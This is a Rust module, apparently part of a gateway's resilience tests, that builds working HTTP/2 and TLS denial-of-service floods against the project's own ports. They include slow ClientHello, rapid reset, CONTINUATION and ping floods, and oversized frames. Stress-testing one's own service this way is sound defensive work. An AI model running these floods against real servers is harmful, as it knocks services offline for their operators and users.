//! Whoever wants a gateway to fall: floods of HTTP/2 frames written byte by byte, and connections that say almost nothing. The
//! program `hostile` runs one of them; a test holds that process to half a core.
//!
//! Not here: what the gateway may lose by it (`tests/tests/hostile`), documents and letters with faults.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::Context as _;
use rustls::ClientConfig;
use rustls::crypto::aws_lc_rs::kx_group::X25519MLKEM768;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;

use crate::stranger::{Papers, call, config};

/// What one attack says on a connection.
pub struct Attack {
    /// As the command line names it.
    pub name: &'static str,
    /// Connections at once.
    connections: usize,
    /// How often something is said: as often as can be when it is zero.
    every: Duration,
    /// What is said once, in HTTP/2; nothing of TLS when there is none.
    begin: Option<fn(&Door) -> Vec<u8>>,
    /// What is said then, again and again; the number is that of the time.
    again: fn(&Door, u32) -> Vec<u8>,
}

/// Every attack.
pub const ATTACKS: [Attack; 9] = [
    // A ClientHello of which one byte comes at a time.
    Attack { name: "slow before TLS", connections: 300, every: SLOWLY, begin: None, again: |_, at| vec![HELLO[at as usize % 8]] },
    // A request whose head never ends, one empty piece at a time.
    Attack {
        name: "slow after TLS",
        connections: 64,
        every: SLOWLY,
        begin: Some(|door| frame(HEADERS, 0, 1, &door.head())),
        again: |_, _| frame(CONTINUATION, 0, 1, &[]),
    },
    Attack { name: "rapid reset", begin: Some(nothing), again: |door, at| batch(32, at, |id| door.asked_and_reset(id)), ..FLOOD },
    Attack {
        name: "CONTINUATION flood",
        begin: Some(|door| frame(HEADERS, 0, 1, &door.head())),
        again: |_, _| frame(CONTINUATION, 0, 1, &padding(FRAME_MAX)),
        ..FLOOD
    },
    Attack {
        name: "empty CONTINUATION flood",
        begin: Some(|door| frame(HEADERS, 0, 1, &door.head())),
        again: |_, at| batch(256, at, |_| frame(CONTINUATION, 0, 1, &[])),
        ..FLOOD
    },
    Attack {
        name: "empty DATA flood",
        begin: Some(|door| frame(HEADERS, END_HEADERS, 1, &door.head())),
        again: |_, at| batch(256, at, |_| frame(DATA, 0, 1, &[])),
        ..FLOOD
    },
    Attack {
        name: "huge headers",
        begin: Some(nothing),
        again: |door, at| {
            let head = [door.head(), padding(FRAME_MAX - 200)].concat();
            [frame(HEADERS, END_STREAM, 2 * at + 1, &head), frame(CONTINUATION, END_HEADERS, 2 * at + 1, &padding(FRAME_MAX))]
                .concat()
        },
        ..FLOOD
    },
    Attack { name: "huge frames", begin: Some(nothing), again: |_, _| frame(DATA, 0, 1, &padding(1 << 20)), ..FLOOD },
    Attack { name: "ping flood", begin: Some(nothing), again: |_, at| batch(256, at, |_| frame(PING, 0, 0, &[7; 8])), ..FLOOD },
];

const FLOOD: Attack = Attack { name: "", connections: 4, every: Duration::ZERO, begin: None, again: |_, _| Vec::new() };
const SLOWLY: Duration = Duration::from_millis(100);
/// The head of a TLS record that promises more.
const HELLO: [u8; 8] = [22, 3, 1, 2, 0, 1, 0, 1];
/// Preface and empty SETTINGS.
const HELLO_H2: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// RFC 9113, section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The largest that a gateway has to take.
const FRAME_MAX: usize = 16_384;

/// At which port it is tried.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Door {
    /// Agents': an attack in TLS needs a member's papers.
    Agents,
    /// The authority's: anybody's.
    Authority,
}

impl Door {
    /// A request of gRPC that is served there, RFC 7541.
    fn head(self) -> Vec<u8> {
        let path = match self {
            Self::Agents => "/raccordo.v1.RelayService/Attach",
            Self::Authority => "/raccordo.v1.DirectoryService/Publish",
        };
        let text = |name: &[u8], value: &str| [name, &[value.len() as u8], value.as_bytes()].concat();
        let te = text(&[&[0, 2], &b"te"[..]].concat(), "trailers");
        [vec![0x83, 0x87], text(&[0x04], path), text(&[0x01], "gateway"), text(&[0x0f, 0x10], "application/grpc"), te].concat()
    }

    fn asked_and_reset(self, id: u32) -> Vec<u8> {
        [frame(HEADERS, END_HEADERS, id, &self.head()), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
    }
}

fn nothing(_: &Door) -> Vec<u8> {
    Vec::new()
}

/// One header with a long value.
fn padding(len: usize) -> Vec<u8> {
    let mut padding = [&[0, 1, b'x', 0x7f][..], &[0; 0]].concat();
    let mut left = len - 127 - 8;
    while left >= 128 {
        padding.push((left % 128) as u8 | 0x80);
        left /= 128;
    }
    padding.push(left as u8);
    padding.resize(len, b'a');
    padding
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// So many at once, each with a stream of its own.
fn batch(count: u32, time: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(|at| one(2 * (time * count + at) + 1)).collect()
}

/// What an attack has done.
#[derive(Default)]
pub struct Done {
    /// Connections on which the gateway spoke HTTP/2 or, without TLS, that it accepted.
    pub let_in: AtomicU64,
    /// Bytes handed to the system.
    pub bytes: AtomicU64,
}

/// Somebody who attacks.
pub struct Attacker {
    /// What is said.
    pub attack: &'static Attack,
    /// At which port.
    pub door: Door,
    /// And where that is.
    pub at: SocketAddr,
    /// An address of this machine's own.
    pub from: [u8; 4],
    tls: Arc<ClientConfig>,
    /// What came of it.
    pub done: Done,
}

impl Attacker {
    /// With a member's papers, or none.
    pub fn new(
        attack: &'static Attack,
        door: Door,
        at: SocketAddr,
        from: [u8; 4],
        papers: Option<Papers>,
    ) -> anyhow::Result<Self> {
        let tls = Arc::new(config(papers, vec![X25519MLKEM768], b"h2")?);
        Ok(Self { attack, door, at, from, tls, done: Done::default() })
    }

    /// Attacks for so long, and connects again whenever it is cut.
    pub async fn run(self: Arc<Self>, long: Duration) {
        let mut connections = JoinSet::new();
        for _ in 0..self.attack.connections {
            let attacker = self.clone();
            connections.spawn(async move {
                loop {
                    let _cut = attacker.connection().await;
                    tokio::task::yield_now().await;
                }
            });
        }
        let _over = tokio::time::timeout(long, connections.join_next()).await;
    }

    async fn connection(&self) -> anyhow::Result<()> {
        let tcp = call(self.from, self.at).await?;
        let Some(begin) = self.attack.begin else {
            self.done.let_in.fetch_add(1, Ordering::Relaxed);
            return self.talk(tcp).await;
        };
        let mut tls = TlsConnector::from(self.tls.clone()).connect(ServerName::try_from("localhost")?, tcp).await?;
        tls.write_all(&[HELLO_H2, &begin(&self.door)].concat()).await?;
        tls.flush().await?;
        tls.read_exact(&mut [0; 9]).await.context("nothing of HTTP/2")?;
        self.done.let_in.fetch_add(1, Ordering::Relaxed);
        self.talk(tls).await
    }

    /// Says it again and again, and hears whatever comes, until it is cut.
    async fn talk(&self, stream: impl AsyncRead + AsyncWrite) -> anyhow::Result<()> {
        let (mut hears, mut says) = tokio::io::split(stream);
        let mut turns = tokio::time::interval(self.attack.every.max(Duration::from_nanos(1)));
        let talks = async {
            for at in 0_u32.. {
                if !self.attack.every.is_zero() {
                    turns.tick().await;
                }
                let words = (self.attack.again)(&self.door, at % (1 << 20));
                let mut left = &words[..];
                while !left.is_empty() {
                    let written = says.write(left).await?;
                    self.done.bytes.fetch_add(written as u64, Ordering::Relaxed);
                    left = &left[written..];
                }
                says.flush().await?;
            }
            anyhow::Ok(())
        };
        let listens = async {
            let mut heard = vec![0; FRAME_MAX];
            while hears.read(&mut heard).await? > 0 {}
            anyhow::Ok(())
        };
        tokio::select! {
            talked = talks => talked,
            listened = listens => listened,
        }
    }
}
